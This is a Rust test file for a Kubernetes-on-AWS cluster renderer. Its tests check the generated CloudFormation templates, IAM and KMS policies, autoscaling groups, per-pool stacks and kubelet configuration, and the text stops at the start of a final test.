use std::collections::BTreeSet;
use std::io::Read;
use std::path::Path;

use serde_json::Value;

use super::*;
use crate::assets::TlsAsset;
use crate::releases::{DEFAULT_KUBERNETES_VERSION, check_kubernetes_version, parse_minor};

fn config(extra: &str) -> ClusterConfig {
    let text = format!(
        "clusterName: demo\nexternalDNSName: k8s.example.com\nregion: us-west-2\navailabilityZone: us-west-2a\nkmsKeyArn: arn:aws:kms:us-west-2:1:key/x\ntemplateBucket: demo-artifacts\n{extra}"
    );
    ClusterConfig::parse(Path::new("cluster.yaml"), &text).unwrap()
}

fn tls() -> TlsAssets {
    crate::assets::tls::all_names()
        .map(|name| {
            (
                name.to_string(),
                TlsAsset {
                    name: name.to_string(),
                    spec_sha256: format!("spec-{name}"),
                    certificate_pem: format!(
                        "-----BEGIN CERTIFICATE-----\n{name}\n-----END CERTIFICATE-----\n"
                    ),
                    public_key_pem: (name == crate::assets::tls::SERVICE_ACCOUNT).then(|| {
                        "-----BEGIN PUBLIC KEY-----\nsa\n-----END PUBLIC KEY-----\n".to_string()
                    }),
                    certificate_sha256: format!("sha-{name}"),
                    key_ciphertext: format!("Q0lQSEVS{}", name.len()),
                    not_after: "2030-01-01T00:00:00Z".into(),
                },
            )
        })
        .collect()
}

fn render_with(config: &ClusterConfig, templates: &Templates) -> Result<Rendered, RenderError> {
    render(
        templates,
        &RenderInputs {
            config,
            ami_id: "ami-0123456789abcdef0",
            tls: &tls(),
            keep_pools_in_cluster_stack: false,
            reuse_pools: &Default::default(),
        },
    )
}

fn stack(rendered: &Rendered) -> Value {
    serde_json::from_str(&rendered.stack_template).unwrap()
}

/// Every `Ref`, `Fn::GetAtt` and `DependsOn` target in `value`.
/// Every statement a role of the stack carries: its inline policy's, then those of the stack's
/// managed policies it names (an ARN from outside the stack adds none).
fn role_statements(stack: &Value, role: &str) -> Vec<Value> {
    let properties = &stack["Resources"][role]["Properties"];
    let mut statements = properties["Policies"][0]["PolicyDocument"]["Statement"]
        .as_array()
        .unwrap()
        .clone();
    for arn in properties["ManagedPolicyArns"]
        .as_array()
        .into_iter()
        .flatten()
    {
        if let Some(policy) = arn["Ref"].as_str() {
            let document = &stack["Resources"][policy]["Properties"]["PolicyDocument"];
            statements.extend(document["Statement"].as_array().unwrap().iter().cloned());
        }
    }
    statements
}

/// A policy statement's `Action` or `Resource`: one string or a list of them.
fn one_or_many(value: &Value) -> Vec<String> {
    match value {
        Value::String(one) => vec![one.clone()],
        Value::Array(many) => many
            .iter()
            .map(|v| v.as_str().unwrap().to_string())
            .collect(),
        other => panic!("neither a string nor a list: {other}"),
    }
}

fn references(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, inner) in map {
                match (key.as_str(), inner) {
                    ("Ref", Value::String(target)) => out.push(target.clone()),
                    ("Fn::GetAtt", Value::Array(parts)) => {
                        out.push(parts[0].as_str().unwrap().to_string())
                    }
                    ("DependsOn", Value::String(target)) => out.push(target.clone()),
                    _ => references(inner, out),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|i| references(i, out)),
        _ => {}
    }
}

fn assert_references_resolve(stack: &Value) {
    let resources: BTreeSet<String> = stack["Resources"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    let parameters: BTreeSet<String> = stack
        .get("Parameters")
        .and_then(Value::as_object)
        .map(|p| p.keys().cloned().collect())
        .unwrap_or_default();
    let mut found = Vec::new();
    references(stack, &mut found);
    assert!(!found.is_empty());
    for target in found {
        assert!(
            resources.contains(&target)
                || parameters.contains(&target)
                || target.starts_with("AWS::"),
            "{target} is referenced but not defined"
        );
    }
}

#[test]
fn rendering_twice_gives_identical_bytes() {
    let c = config("nodePools:\n  - name: gpu\n");
    let a = render_with(&c, &Templates::built_in()).unwrap();
    let b = render_with(&c, &Templates::built_in()).unwrap();
    assert_eq!(a, b);
}

#[test]
fn every_reference_resolves_for_single_and_multi_controller_clusters() {
    for extra in [
        "",
        "controllerCount: 3\netcdCount: 3\nsubnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\nnodePools:\n  - name: gpu\n    spotPrice: \"0.5\"\n",
        "vpcId: vpc-123\nrouteTableId: rtb-123\n",
        "vpcId: vpc-123\n",
    ] {
        let rendered = render_with(&config(extra), &Templates::built_in()).unwrap();
        assert_references_resolve(&stack(&rendered));
    }
}

#[test]
fn a_pool_sized_by_min_and_max_starts_at_count_and_rolls_below_its_max() {
    let rendered = render_with(
        &config(
            "workerCount: 2\nnodePools:\n  - name: elastic\n    count: 3\n    minSize: 0\n    maxSize: 10\n  - name: fixed\n    count: 2\n    maxSize: 2\n",
        ),
        &Templates::built_in(),
    )
    .unwrap();
    let stack = stack(&rendered);
    // (group, MinSize, MaxSize, DesiredCapacity, MinInstancesInService)
    for (group, min, max, desired, in_service) in [
        ("AutoScaleWorkers", "2", "3", "2", "2"),
        ("AutoScaleElastic", "0", "10", "3", "3"),
        // CloudFormation wants MinInstancesInService below MaxSize: a full group rolls one
        // instance at a time with one fewer in service.
        ("AutoScaleFixed", "2", "2", "2", "1"),
    ] {
        let asg = &stack["Resources"][group];
        let properties = &asg["Properties"];
        assert_eq!(
            (
                &properties["MinSize"],
                &properties["MaxSize"],
                &properties["DesiredCapacity"],
                &asg["UpdatePolicy"]["AutoScalingRollingUpdate"]["MinInstancesInService"],
            ),
            (
                &Value::from(min),
                &Value::from(max),
                &Value::from(desired),
                &Value::from(in_service)
            ),
            "{group}"
        );
    }
}

/// A cluster with three zones and pools that use each new pool setting.
const SHAPED_POOLS: &str = "subnets:\n  - {availabilityZone: us-west-2a, instanceCIDR: 10.0.0.0/24}\n  - {availabilityZone: us-west-2b, instanceCIDR: 10.0.1.0/24}\n  - {id: subnet-0123456789abcdef0, availabilityZone: us-west-2c, instanceCIDR: 10.0.2.0/24}\nvpcId: vpc-0123456789abcdef0\nrouteTableId: rtb-0123456789abcdef0\nclusterAutoscaler: {enabled: true}\nnodePools:\n  - name: spot\n    count: 4\n    instanceTypes: [m6i.large, m5.large, m5a.large]\n    onDemandBaseCapacity: 1\n    spotPrice: \"0.08\"\n    subnets: [us-west-2b, subnet-0123456789abcdef0]\n  - name: batch\n    autoscaled: true\n    minSize: 0\n    maxSize: 20\n    labels: {workload: batch}\n    taints: [{key: dedicated, value: batch, effect: NoSchedule}]\n    managedPolicies: [arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess]\n  - name: byo\n    count: 1\n    instanceProfileArn: arn:aws:iam::123456789012:instance-profile/byo-nodes\n";

#[test]
fn pools_take_their_zones_instance_mix_iam_and_autoscaling() {
    let rendered = render_with(&config(SHAPED_POOLS), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    let resources = &stack["Resources"];
    let subnets = |group: &str| resources[group]["Properties"]["VPCZoneIdentifier"].clone();
    // Every node subnet by default; a pool's own by zone or id.
    assert_eq!(
        subnets("AutoScaleWorkers"),
        serde_json::json!([{"Ref": "Subnet0"}, {"Ref": "Subnet1"}, "subnet-0123456789abcdef0"])
    );
    assert_eq!(
        subnets("AutoScaleSpot"),
        serde_json::json!([{"Ref": "Subnet1"}, "subnet-0123456789abcdef0"])
    );

    // Instance types and the spot mix in a mixed instances policy; the spot price there, not
    // in the launch template (AWS refuses a spot launch template in a mixed group).
    let spot = &resources["AutoScaleSpot"]["Properties"];
    assert!(spot.get("LaunchTemplate").is_none(), "{spot:#}");
    let policy = &spot["MixedInstancesPolicy"];
    assert_eq!(
        policy["LaunchTemplate"]["Overrides"],
        serde_json::json!([{"InstanceType": "m6i.large"}, {"InstanceType": "m5.large"}, {"InstanceType": "m5a.large"}])
    );
    assert_eq!(
        policy["LaunchTemplate"]["LaunchTemplateSpecification"]["LaunchTemplateId"],
        serde_json::json!({"Ref": "LaunchTemplateSpot"})
    );
    assert_eq!(
        policy["InstancesDistribution"],
        serde_json::json!({"OnDemandAllocationStrategy": "prioritized", "OnDemandBaseCapacity": 1, "OnDemandPercentageAboveBaseCapacity": 0, "SpotAllocationStrategy": "price-capacity-optimized", "SpotMaxPrice": "0.08"})
    );
    let spot_launch = &resources["LaunchTemplateSpot"]["Properties"]["LaunchTemplateData"];
    assert!(
        spot_launch.get("InstanceMarketOptions").is_none(),
        "{spot_launch:#}"
    );
    assert_eq!(spot_launch["InstanceType"], "m6i.large");

    // Per-pool IAM: a role of its own with the workers' policy plus the managed ones, or the
    // user's instance profile and no role at all.
    let batch_role = &resources["IAMRolePoolBatch"]["Properties"];
    assert_eq!(
        batch_role["ManagedPolicyArns"],
        serde_json::json!(["arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"])
    );
    assert_eq!(
        batch_role["Policies"], resources["IAMRoleWorker"]["Properties"]["Policies"],
        "the pool's role may do what a worker's may, no more"
    );
    let profile = |pool: &str| {
        resources[format!("LaunchTemplate{pool}")]["Properties"]["LaunchTemplateData"]["IamInstanceProfile"]["Arn"].clone()
    };
    assert_eq!(
        profile("Batch"),
        serde_json::json!({"Fn::GetAtt": ["IAMInstanceProfilePoolBatch", "Arn"]})
    );
    assert_eq!(
        profile("Byo"),
        serde_json::json!("arn:aws:iam::123456789012:instance-profile/byo-nodes")
    );
    assert_eq!(
        profile("Spot"),
        serde_json::json!({"Fn::GetAtt": ["IAMInstanceProfileWorker", "Arn"]})
    );
    assert!(resources.get("IAMRolePoolByo").is_none());
    assert!(resources.get("IAMRolePoolSpot").is_none());

    // The autoscaled pool: no desired capacity (CloudFormation keeps the autoscaler's), the
    // discovery tags and the node-template tags for scaling up from zero.
    let batch = &resources["AutoScaleBatch"];
    assert!(
        batch["Properties"].get("DesiredCapacity").is_none(),
        "{batch:#}"
    );
    assert_eq!(
        (
            &batch["Properties"]["MinSize"],
            &batch["Properties"]["MaxSize"]
        ),
        (&Value::from("0"), &Value::from("20"))
    );
    assert!(
        batch.get("CreationPolicy").is_none(),
        "nothing to signal at zero"
    );
    let tags: BTreeMap<String, (String, bool)> = batch["Properties"]["Tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["Key"].as_str().unwrap().to_string(),
                (
                    t["Value"].as_str().unwrap_or_default().to_string(),
                    t["PropagateAtLaunch"].as_bool().unwrap(),
                ),
            )
        })
        .collect();
    for (key, value) in [
        ("k8s.io/cluster-autoscaler/enabled", "true"),
        ("k8s.io/cluster-autoscaler/demo", "owned"),
        (
            "k8s.io/cluster-autoscaler/node-template/label/kube-aws.coreos.com/pool",
            "batch",
        ),
        (
            "k8s.io/cluster-autoscaler/node-template/label/workload",
            "batch",
        ),
        (
            "k8s.io/cluster-autoscaler/node-template/taint/dedicated",
            "batch:NoSchedule",
        ),
    ] {
        assert_eq!(
            tags.get(key),
            Some(&(value.to_string(), false)),
            "{key}: {tags:#?}"
        );
    }
    let spot_tags = resources["AutoScaleSpot"]["Properties"]["Tags"].to_string();
    assert!(
        !spot_tags.contains("cluster-autoscaler"),
        "a pool not marked autoscaled is never resized: {spot_tags}"
    );

    // The controllers' role may resize only this cluster's autoscaled groups.
    let controller_policy = role_statements(&stack, "IAMRoleController");
    let resize = controller_policy
        .iter()
        .find(|s| s["Sid"] == "ResizeOnlyThisClustersAutoscaledPools")
        .expect("the resize statement");
    assert_eq!(
        resize["Condition"],
        serde_json::json!({"StringEquals": {"aws:ResourceTag/k8s.io/cluster-autoscaler/demo": "owned"}})
    );
    // The add-on itself: applied last, on the controllers, discovering by this cluster's tag.
    let manifest = &rendered.manifests["cluster-autoscaler.yaml"];
    assert!(
        manifest.contains("--node-group-auto-discovery=asg:tag=k8s.io/cluster-autoscaler/enabled,k8s.io/cluster-autoscaler/demo"),
        "{manifest}"
    );
    assert!(manifest.contains("registry.k8s.io/autoscaling/cluster-autoscaler:v1."));
    let controller = &rendered.cloud_configs["cloud-config-controller"];
    assert!(
        controller.contains("cluster-autoscaler.yaml"),
        "the controller applies it"
    );
}

#[test]
fn with_a_stack_per_pool_each_pool_is_its_own_stack_taking_the_cluster_stacks_resources() {
    // SHAPED_POOLS creates its VPC's subnets here, so the pools read them as parameters.
    let shaped = SHAPED_POOLS
        .replace("vpcId: vpc-0123456789abcdef0\nrouteTableId: rtb-0123456789abcdef0\n", "")
        .replace("  - {id: subnet-0123456789abcdef0, availabilityZone: us-west-2c, instanceCIDR: 10.0.2.0/24}\n", "")
        .replace("subnets: [us-west-2b, subnet-0123456789abcdef0]", "subnets: [us-west-2b]");
    let single = render_with(&config(&shaped), &Templates::built_in()).unwrap();
    let split = render_with(
        &config(&format!("{shaped}stackPerPool: true\n")),
        &Templates::built_in(),
    )
    .unwrap();
    assert!(single.pool_stacks.is_empty());
    let cluster = stack(&split);
    let resources = cluster["Resources"].as_object().unwrap();
    // No pool resource and no workers' role is left in the cluster stack; the rest is as in
    // the single stack.
    let single_ids: BTreeSet<String> = stack(&single)["Resources"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    let split_ids: BTreeSet<String> = resources.keys().cloned().collect();
    let moved: BTreeSet<String> = single_ids.difference(&split_ids).cloned().collect();
    assert_eq!(
        moved,
        [
            "AutoScaleBatch",
            "AutoScaleByo",
            "AutoScaleSpot",
            "AutoScaleWorkers",
            "IAMInstanceProfilePoolBatch",
            "IAMInstanceProfileWorker",
            "IAMRolePoolBatch",
            "IAMRoleWorker",
            "LaunchTemplateBatch",
            "LaunchTemplateByo",
            "LaunchTemplateSpot",
            "LaunchTemplateWorkers",
        ]
        .into_iter()
        .map(String::from)
        .collect()
    );
    assert!(split_ids.is_subset(&single_ids));
    assert_references_resolve(&cluster);
    // Each pool stack's parameter names a resource of the cluster stack (apply passes its
    // physical id); the cluster stack's outputs are the single stack's.
    for (pool, stack) in &split.pool_stacks {
        for parameter in &stack.parameters {
            assert!(resources.contains_key(parameter), "{pool}: {parameter}");
        }
    }
    assert_eq!(cluster["Outputs"], stack(&single)["Outputs"]);

    assert_eq!(
        split.pool_stacks.keys().collect::<Vec<_>>(),
        ["batch", "byo", "spot", "workers"]
    );
    let spot = &split.pool_stacks["spot"];
    assert_eq!(spot.stack_name, "demo-pool-spot");
    assert_eq!(spot.parameters, ["SecurityGroupWorker", "Subnet1"]);
    let template: Value = serde_json::from_str(&spot.template).unwrap();
    assert_references_resolve(&template);
    assert_eq!(
        template["Parameters"]["Subnet1"]["Type"],
        "AWS::EC2::Subnet::Id"
    );
    assert!(template.get("Outputs").is_none());
    // The same group as in the single stack, but with a role of its own in its stack, so
    // its instances may signal their own stack.
    let pool_resources = template["Resources"].as_object().unwrap();
    assert_eq!(
        pool_resources.keys().collect::<Vec<_>>(),
        [
            "AutoScaleSpot",
            "IAMInstanceProfilePoolSpot",
            "IAMRolePoolSpot",
            "LaunchTemplateSpot"
        ]
    );
    // Beside the cluster's resources the group waits for the API's record and the controller
    // (and its network); a pool stack is created after the cluster stack completes.
    let mut in_cluster_stack = stack(&single)["Resources"]["AutoScaleSpot"].clone();
    let waits_for = in_cluster_stack
        .as_object_mut()
        .unwrap()
        .remove("DependsOn")
        .unwrap();
    assert_eq!(waits_for[0], "APIEndpointRecord");
    assert_eq!(waits_for[1], "InstanceController");
    assert_eq!(pool_resources["AutoScaleSpot"], in_cluster_stack);
    let launch = &pool_resources["LaunchTemplateSpot"]["Properties"]["LaunchTemplateData"];
    assert_eq!(
        launch["IamInstanceProfile"],
        serde_json::json!({"Arn": {"Fn::GetAtt": ["IAMInstanceProfilePoolSpot", "Arn"]}})
    );
    assert_eq!(
        pool_resources["IAMRolePoolSpot"]["Properties"]["Policies"],
        stack(&single)["Resources"]["IAMRoleWorker"]["Properties"]["Policies"]
    );
    // A worker signals nothing; its group tags it with the stack and group the controllers'
    // node-ready-signaller signals for it: the pool's own stack, whichever stack that is.
    for rendered in [&single, &split] {
        assert!(!rendered.cloud_configs["cloud-config-worker-spot"].contains("signal-resource"));
    }
    let tags = pool_resources["AutoScaleSpot"]["Properties"]["Tags"]
        .as_array()
        .unwrap();
    let tag = |key: &str| tags.iter().find(|t| t["Key"] == key).unwrap().clone();
    assert_eq!(
        tag("kube-aws:signal-stack"),
        serde_json::json!({"Key": "kube-aws:signal-stack", "Value": {"Ref": "AWS::StackName"}, "PropagateAtLaunch": true})
    );
    assert_eq!(
        tag("kube-aws:signal-resource"),
        serde_json::json!({"Key": "kube-aws:signal-resource", "Value": "AutoScaleSpot", "PropagateAtLaunch": true})
    );
    // A pool with the user's instance profile has no role in its stack either.
    let byo: Value = serde_json::from_str(&split.pool_stacks["byo"].template).unwrap();
    assert_eq!(
        byo["Resources"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        ["AutoScaleByo", "LaunchTemplateByo"]
    );
}

#[test]
fn moving_to_a_stack_per_pool_first_keeps_the_cluster_stack_as_it_runs() {
    let extra = "nodePools: [{name: gpu, managedPolicies: [arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess]}]\n";
    let single = render_with(&config(extra), &Templates::built_in()).unwrap();
    let split_config = config(&format!("{extra}stackPerPool: true\n"));
    let split = render_with(&split_config, &Templates::built_in()).unwrap();
    let moving = render(
        &Templates::built_in(),
        &RenderInputs {
            config: &split_config,
            ami_id: "ami-0123456789abcdef0",
            tls: &tls(),
            keep_pools_in_cluster_stack: true,
            reuse_pools: &Default::default(),
        },
    )
    .unwrap();
    // Step 1: the cluster stack byte for byte as the single stack (nothing in it changes, so
    // nothing rolls), the pool stacks as they will stay, the cloud-configs the pool stacks'.
    assert_eq!(moving.stack_template, single.stack_template);
    assert_eq!(moving.pool_stacks, split.pool_stacks);
    assert_eq!(moving.cloud_configs, split.cloud_configs);
    assert_ne!(split.stack_template, single.stack_template);
}

#[test]
fn an_override_that_renders_the_whole_cluster_into_a_pool_stack_is_refused() {
    let mut templates = Templates::built_in();
    let text = templates
        .text(STACK)
        .unwrap()
        .replace("{%- if not poolStack %}", "{%- if true %}");
    templates.sources.insert(STACK, (text, Origin::BuiltIn));
    let e = render_with(&config("stackPerPool: true\n"), &templates).unwrap_err();
    assert!(
        matches!(&e, RenderError::PoolStackHoldsMore { pool, resources } if pool == "workers" && resources.contains(&"VPC".to_string())),
        "{e}"
    );
}

#[test]
fn the_cluster_autoscaler_is_off_unless_enabled() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    assert!(!rendered.manifests.contains_key("cluster-autoscaler.yaml"));
    assert!(!rendered.stack_template.contains("cluster-autoscaler"));
    assert!(!rendered.stack_template.contains("MixedInstancesPolicy"));
    assert!(!rendered.stack_template.contains("IAMRolePool"));
}

#[test]
fn one_auto_scaling_group_per_pool_with_a_rolling_update_policy() {
    let rendered = render_with(
        &config("workerCount: 2\nnodePools:\n  - name: gpu-big\n    count: 4\n"),
        &Templates::built_in(),
    )
    .unwrap();
    let stack = stack(&rendered);
    for (group, count) in [("AutoScaleWorkers", "2"), ("AutoScaleGpuBig", "4")] {
        let asg = &stack["Resources"][group];
        assert_eq!(asg["Type"], "AWS::AutoScaling::AutoScalingGroup");
        assert_eq!(asg["Properties"]["DesiredCapacity"], count);
        let policy = &asg["UpdatePolicy"]["AutoScalingRollingUpdate"];
        assert_eq!(policy["MinInstancesInService"], count);
        assert_eq!(policy["MaxBatchSize"], "1");
    }
    assert!(
        rendered
            .cloud_configs
            .contains_key("cloud-config-worker-gpu-big")
    );
    assert!(
        rendered.cloud_configs["cloud-config-worker-gpu-big"]
            .contains("--node-labels=kube-aws.coreos.com/pool=gpu-big")
    );
}

#[test]
fn userdata_is_the_gzipped_cloud_config() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    let userdata = stack["Resources"]["InstanceController"]["Properties"]["UserData"]
        .as_str()
        .unwrap();
    let gz = BASE64.decode(userdata).unwrap();
    let mut text = String::new();
    flate2::read::GzDecoder::new(&gz[..])
        .read_to_string(&mut text)
        .unwrap();
    assert_eq!(text, rendered.cloud_configs["cloud-config-controller"]);
    assert!(text.starts_with("#cloud-config\n"));
}

#[test]
fn instance_roles_may_decrypt_only_with_the_cluster_key_and_context() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    for role in ["IAMRoleController", "IAMRoleWorker", "IAMRoleEtcd"] {
        let statements = role_statements(&stack, role);
        let decrypt: Vec<&Value> = statements
            .iter()
            .filter(|s| s["Action"].to_string().contains("kms:"))
            .collect();
        assert_eq!(decrypt[0]["Action"], "kms:Decrypt");
        assert_eq!(
            decrypt[0]["Condition"]["StringEquals"]["kms:EncryptionContext:kube-aws:cluster"],
            "demo"
        );
        // Etcd's second: S3's use of the key for the snapshot bucket (SSE-KMS), and no other.
        let through_s3 = &decrypt[1..];
        assert_eq!(
            through_s3.len(),
            usize::from(role == "IAMRoleEtcd"),
            "{role}"
        );
        for statement in through_s3 {
            let condition = &statement["Condition"]["StringEquals"];
            assert_eq!(
                condition["kms:ViaService"],
                serde_json::json!({"Fn::Sub": "s3.${AWS::Region}.amazonaws.com"})
            );
            assert_eq!(
                condition["kms:EncryptionContext:aws:s3:arn"],
                serde_json::json!({"Fn::GetAtt": ["EtcdSnapshots", "Arn"]})
            );
        }
        for statement in decrypt {
            assert_eq!(statement["Resource"], "arn:aws:kms:us-west-2:1:key/x");
        }
    }
}

#[test]
fn decrypt_unit_runs_before_kubelet_and_etcd_with_the_same_context() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    for (name, before) in [
        ("cloud-config-controller", "kubelet.service"),
        ("cloud-config-worker", "kubelet.service"),
        ("cloud-config-etcd-0", "etcd.service"),
    ] {
        let text = &rendered.cloud_configs[name];
        let unit_start = text.find("- name: decrypt-assets.service").unwrap();
        let before_line = text[unit_start..]
            .lines()
            .find(|l| l.trim_start().starts_with("Before="))
            .unwrap();
        assert!(before_line.contains(before), "{name}: {before_line}");
        assert!(
            text.contains("--encryption-context \"kube-aws:cluster=demo,kube-aws:asset=$2\""),
            "{name}"
        );
        let parsed: serde_norway::Value = serde_norway::from_str(text).unwrap();
        assert!(parsed.get("write_files").is_some(), "{name}");
    }
}

#[test]
fn unknown_template_variable_names_template_and_line() {
    let mut overrides = BTreeMap::new();
    overrides.insert(
        WORKER,
        "#cloud-config\nhostname: x\nfoo: {{ no_such_variable }}\n".to_string(),
    );
    let err = render_with(&config(""), &Templates::with_overrides(overrides)).unwrap_err();
    assert_eq!(
        err.to_string().split(": ").next().unwrap(),
        "userdata/cloud-config-worker:3",
        "{err}"
    );
}

#[test]
fn invalid_stack_json_names_line_and_column() {
    let mut overrides = BTreeMap::new();
    overrides.insert(STACK, "{\n  \"Resources\": {,}\n}\n".to_string());
    let err = render_with(&config(""), &Templates::with_overrides(overrides)).unwrap_err();
    match err {
        RenderError::StackJson { line, .. } => assert_eq!(line, 2),
        other => panic!("unexpected {other}"),
    }
}

#[test]
fn kubernetes_versions_are_checked() {
    assert!(check_kubernetes_version(DEFAULT_KUBERNETES_VERSION).is_ok());
    assert!(check_kubernetes_version("v1.36.5").is_ok());
    assert!(check_kubernetes_version("1.36.5").is_err());
    // End of life upstream: refused with the supported list.
    let err = check_kubernetes_version("v1.31.4").unwrap_err();
    assert!(err.contains("v1.37 (until 2027-10-28)"), "{err}");
    assert!(check_kubernetes_version("v1.20.0").is_err());
}

#[test]
fn the_default_version_is_the_release_data_default_and_newest_minor() {
    let data = releases();
    assert_eq!(data.default, DEFAULT_KUBERNETES_VERSION);
    let newest = data.minors.iter().map(|m| m.minor).max().unwrap();
    let default = data
        .minors
        .iter()
        .find(|m| m.patch == DEFAULT_KUBERNETES_VERSION)
        .expect("the default is a pinned patch release");
    assert_eq!(default.minor, newest);
    // At least six months of upstream support from the day the data was checked.
    assert!(default.end_of_life.as_str() >= "2027-05-26", "{default:?}");
}

#[test]
fn images_are_pinned_by_digest_where_one_is_recorded() {
    let pinned = images("v1.36.5");
    assert!(
        pinned
            .apiserver
            .starts_with("registry.k8s.io/kube-apiserver:v1.36.5@sha256:"),
        "{}",
        pinned.apiserver
    );
    let tagged = images("v1.37.1");
    assert_eq!(tagged.apiserver, "registry.k8s.io/kube-apiserver:v1.37.1");
    assert_eq!(tagged.etcd, "quay.io/coreos/etcd:v3.6.8");
}

const THREE_POOLS: &str = "nodePools:\n  - name: gpu\n    labels: {accelerator: nvidia, node.kubernetes.io/pool-kind: gpu}\n    taints: [{key: nvidia.com/gpu, value: \"true\", effect: NoSchedule}]\n  - name: batch\n  - name: spot\n    spotPrice: \"0.1\"\n";

/// The kubelet command line a rendered cloud-config starts.
fn kubelet_command(text: &str) -> &str {
    text.lines()
        .map(str::trim)
        .find_map(|l| l.strip_prefix("ExecStart=/opt/bin/kubelet "))
        .expect("a kubelet unit")
}

#[test]
fn nodes_bootstrap_their_own_identity_and_carry_no_etcd_or_ca_credentials() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let workers: Vec<_> = rendered
        .cloud_configs
        .iter()
        .filter(|(name, _)| name.starts_with("cloud-config-worker"))
        .collect();
    assert_eq!(workers.len(), 4);
    for (name, text) in workers {
        for secret in ["etcd-client", "etcd-server", "ca-key.pem", "kube-addons"] {
            assert!(!text.contains(secret), "{name} carries {secret}");
        }
        let keys: Vec<&str> = text
            .lines()
            .filter_map(|l| l.trim().strip_prefix("- path: /etc/kubernetes/ssl/"))
            .filter(|p| p.ends_with(".enc"))
            .collect();
        assert_eq!(keys, vec!["bootstrap-token.enc"], "{name}");
        // The kubelet starts with what node-bootstrap obtained, and never bootstraps itself:
        // its own CSR would carry a key generated in memory, which no tag can vouch for.
        let kubelet = kubelet_command(text);
        assert!(!kubelet.contains("--bootstrap-kubeconfig"), "{kubelet}");
        assert!(kubelet.contains("--kubeconfig=/var/lib/kubelet/kubeconfig"));
        assert!(text.contains("- path: /opt/bin/node-bootstrap\n"), "{name}");
        assert!(
            text.contains("kube-aws:node-client-key,Value=$key_sha256"),
            "{name}"
        );
        assert!(text.contains("ExecStartPre=/opt/bin/node-bootstrap\n"));
        assert!(text.contains("tokenFile: /etc/kubernetes/ssl/bootstrap-token"));
        assert!(text.contains("rotateCertificates: true"));
    }
}

#[test]
fn every_kubelet_flag_is_one_the_target_version_accepts() {
    let rules = crate::config::KubeletRules::get();
    for extra in ["", THREE_POOLS] {
        let c = config(extra);
        let minor = parse_minor(&c.kubernetes_version).unwrap();
        let rendered = render_with(&c, &Templates::built_in()).unwrap();
        for (name, text) in rendered
            .cloud_configs
            .iter()
            .filter(|(n, _)| !n.starts_with("cloud-config-etcd"))
        {
            for arg in kubelet_command(text).split_whitespace() {
                let (flag, value) = arg.split_once('=').unwrap_or((arg, ""));
                if let Some(removed) = rules
                    .removed_flags
                    .iter()
                    .find(|r| r.flag == flag && r.removed_in <= minor)
                {
                    panic!(
                        "{name}: kubelet 1.{minor} no longer has {flag} (removed in 1.{})",
                        removed.removed_in
                    );
                }
                if flag == "--node-labels" {
                    for label in value.split(',') {
                        let key = label.split('=').next().unwrap();
                        assert_eq!(rules.label_refusal(key), None, "{name}: {label}");
                    }
                }
                if flag == "--cloud-provider" {
                    assert!(
                        rules.cloud_provider_values.iter().any(|v| v == value),
                        "{name}: {arg}"
                    );
                }
            }
        }
    }
}

#[test]
fn every_image_is_pinned_to_an_exact_version() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let mut texts: Vec<&String> = rendered.manifests.values().collect();
    texts.extend(rendered.cloud_configs.values());
    let mut images = BTreeSet::new();
    for text in texts {
        for line in text.lines() {
            if let Some(image) = line.trim().trim_start_matches("- ").strip_prefix("image: ") {
                images.insert(image.to_string());
            }
        }
    }
    assert!(images.len() >= 7, "{images:?}");
    for image in &images {
        let reference = image
            .split_once('@')
            .map_or(image.as_str(), |(r, _digest)| r);
        let (_, tag) = reference
            .rsplit_once(':')
            .filter(|(name, _)| !name.is_empty())
            .unwrap_or_else(|| panic!("{image} has no tag"));
        let version = tag.trim_start_matches('v');
        let numeric: Vec<&str> = version.split(['.', '-']).take(3).collect();
        assert!(
            numeric.len() == 3 && numeric.iter().all(|p| p.parse::<u32>().is_ok()),
            "{image} is not pinned to an exact version"
        );
    }
}

#[test]
fn every_group_and_the_controller_wait_for_their_instances_to_signal() {
    for extra in [
        "",
        "controllerCount: 3\netcdCount: 3\nsubnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\n",
        THREE_POOLS,
    ] {
        let rendered = render_with(&config(extra), &Templates::built_in()).unwrap();
        let stack = stack(&rendered);
        let resources = stack["Resources"].as_object().unwrap();
        let mut waiting = 0;
        for (id, r) in resources {
            let kind = r["Type"].as_str().unwrap();
            if kind == "AWS::AutoScaling::AutoScalingGroup" {
                assert!(
                    r["CreationPolicy"]["ResourceSignal"]["Count"]
                        .as_u64()
                        .unwrap()
                        >= 1,
                    "{id}"
                );
                assert_eq!(
                    r["UpdatePolicy"]["AutoScalingRollingUpdate"]["WaitOnResourceSignals"], true,
                    "{id}"
                );
                waiting += 1;
            }
            if id == "InstanceController" {
                assert_eq!(r["CreationPolicy"]["ResourceSignal"]["Count"], 1);
                waiting += 1;
            }
        }
        assert!(waiting >= 3, "{extra}: {waiting}");
    }
}

/// The assets whose sealed keys a cloud-config carries (`/etc/kubernetes/ssl/*.enc`).
fn sealed_assets(cloud_config: &str) -> BTreeSet<String> {
    cloud_config
        .lines()
        .filter_map(|l| l.trim().strip_prefix("- path: /etc/kubernetes/ssl/"))
        .filter_map(|p| p.strip_suffix(".enc"))
        .map(|p| p.trim_end_matches("-key.pem").to_string())
        .collect()
}

#[test]
fn each_role_may_decrypt_exactly_the_assets_its_cloud_configs_carry() {
